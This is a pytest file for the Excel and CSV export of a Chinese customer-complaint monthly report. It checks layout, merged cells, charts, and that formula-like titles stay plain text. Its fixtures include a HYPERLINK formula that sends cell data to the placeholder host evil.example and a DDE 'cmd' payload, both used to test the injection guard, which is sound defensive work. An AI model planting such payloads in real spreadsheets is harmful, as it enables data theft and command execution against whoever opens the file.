"""Excel and CSV: layout read back with openpyxl, text never becomes a formula."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import openpyxl

from kefu.reports import export, layout
from kefu.reports.layout import CategoryNode, Column

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
CATS = [
    CategoryNode(1, "开通类", 2, None, (1,)),
    CategoryNode(11, "业务开户不成功", 3, 1, (1, 1)),
    CategoryNode(12, EVIL, 3, 1, (1, 2)),
    CategoryNode(2, "突发事件", 2, None, (2,)),
    CategoryNode(3, "+cmd|' /C calc'!A0", 2, None, (3,)),
]
NATIONAL = [Column("national", "全国", None), Column("bj", "北京", 1), Column("tj", "天津", 2)]


def table(columns=NATIONAL):
    return layout.build(
        month=date(2026, 10, 1),
        categories=CATS,
        columns=columns,
        counts={(1, 11): 3, (2, 12): 2, (1, 2): 1},
        kb_counts={1: 4},
    )


def workbook(t, label="全国"):
    data = export.to_xlsx(t, scope_label=label, generated_at=datetime(2026, 11, 1, tzinfo=UTC))
    return data, openpyxl.load_workbook(io.BytesIO(data))


def test_xlsx_cells_headers_merges_and_freeze():
    data, wb = workbook(table())
    ws = wb["月报表"]
    assert ws["A1"].value == "新视通(4G版)客户投诉/故障统计月报表（2026年10月，全国）"
    assert [ws.cell(3, c).value for c in range(1, 7)] == ["项目", None, None, "全国", "北京", "天津"]
    assert [ws.cell(4, c).value for c in range(1, 4)] == ["分类1", "分类2", "分类3"]
    body = [[ws.cell(r, c).value for c in range(1, 7)] for r in range(5, 12)]
    assert body == [
        ["投诉/故障", "开通类", "业务开户不成功", 3, 3, 0],
        [None, None, EVIL, 2, 0, 2],
        [None, None, "小计", 5, 3, 2],
        [None, "突发事件", None, 1, 1, 0],
        [None, "+cmd|' /C calc'!A0", None, 0, 0, 0],
        [None, "合计", None, 6, 4, 2],
        ["咨询(可根据知识库解决的咨询、投诉数量)", None, None, 4, 4, 0],
    ]
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {
        "A1:F1",
        "A3:C3",
        "D3:D4",
        "E3:E4",
        "F3:F4",
        "A5:A10",
        "B5:B7",
        "B8:C8",
        "B10:C10",
        "A11:C11",
    } <= merged
    assert ws.freeze_panes == "D5"
    assert "口径说明" in wb.sheetnames
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert any(n.startswith("xl/charts/chart") for n in z.namelist())


def test_formula_like_titles_stay_text():
    data, wb = workbook(table())
    ws = wb["月报表"]
    evil = ws["C6"]
    assert evil.value == EVIL and evil.data_type == "s"
    assert ws["B9"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet  # no formula anywhere in the sheet
        assert "HYPERLINK" not in sheet  # the text lives in the shared strings, as a string
        assert "HYPERLINK" in z.read("xl/sharedStrings.xml").decode()


def test_single_province_workbook_has_its_column_and_a_chart():
    data, wb = workbook(table([Column("bj", "北京", 1)]), label="北京")
    ws = wb["月报表"]
    assert [ws.cell(3, c).value for c in range(1, 5)] == ["项目", None, None, "北京"]
    assert ws.cell(10, 4).value == 4  # 合计 for Beijing
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert any(n.startswith("xl/charts/chart") for n in z.namelist())


def test_csv_rows_and_injection_guard():
    raw = export.to_csv(table())
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["分类1", "分类2", "分类3", "全国", "北京", "天津"]
    assert rows[2] == ["投诉/故障", "开通类", "'" + EVIL, "2", "0", "2"]
    assert rows[5] == ["投诉/故障", "'+cmd|' /C calc'!A0", "", "0", "0", "0"]
    assert rows[-1][0] == "咨询(可根据知识库解决的咨询、投诉数量)"
